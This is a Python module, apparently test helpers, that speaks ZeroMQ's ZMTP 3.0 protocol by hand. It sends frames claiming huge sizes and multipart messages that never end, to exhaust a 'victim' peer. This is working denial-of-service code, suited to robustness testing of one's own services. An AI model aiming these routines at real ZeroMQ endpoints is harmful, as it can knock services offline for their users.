"""Peers that speak ZMTP 3.0 (ZeroMQ's RFC 23) by hand: frames that claim too much, messages that never end."""

import socket
import struct
import time
from contextlib import suppress


def greeting(mechanism: bytes) -> bytes:
    """Return what opens a ZMTP 3.0 connection (ZeroMQ's RFC 23)."""
    return b"\xff" + bytes(8) + b"\x7f\x03\x00" + mechanism.ljust(20, b"\0") + bytes(32)


def connect(address: tuple[str, int], kind: str) -> socket.socket:
    """Return a connection whose handshake is done, as a peer of this kind (`DEALER`, `PUSH`) without keys."""
    properties = b"\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind.encode()
    ready = b"\x05READY" + properties
    connection = socket.create_connection(address, timeout=60)
    connection.sendall(greeting(b"NULL") + b"\x04" + bytes([len(ready)]) + ready)
    heard = b""
    while b"READY" not in heard:  # libzmq hangs up now and then on a peer that goes on before its own part is sent
        heard += (part := connection.recv(4096))
        assert part, heard
    return connection


def frame(content: bytes, *, more: bool) -> bytes:
    """Return a frame of a message; `more`: others follow."""
    if len(content) < 256:
        return bytes([int(more), len(content)]) + content
    return bytes([2 | int(more)]) + struct.pack(">Q", len(content)) + content


def never_end(address: tuple[str, int], kind: str, frame_bytes: int, most_bytes: int) -> int:
    """Send a message of frames of this size, without its end; return the bytes sent until the victim hung up.

    Gives up after `most_bytes`: then the victim has taken all of them.
    """
    connection = connect(address, kind)
    block = frame(bytes(frame_bytes), more=True)
    block *= max(1, 100_000 // len(block))
    sent = 0
    with connection, suppress(OSError):
        while sent < most_bytes:
            connection.sendall(block)
            sent += len(block)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and connection.recv(4096):
            pass
    return sent


def claim_a_frame(address: tuple[str, int], kind: str, size: int) -> socket.socket:
    """Send a frame's header that claims `size` bytes, and a few of them; return the connection."""
    connection = connect(address, kind)
    with suppress(OSError):  # the victim may hang up before all of it has left
        connection.sendall(b"\x02" + struct.pack(">Q", size) + bytes(100_000))
    return connection
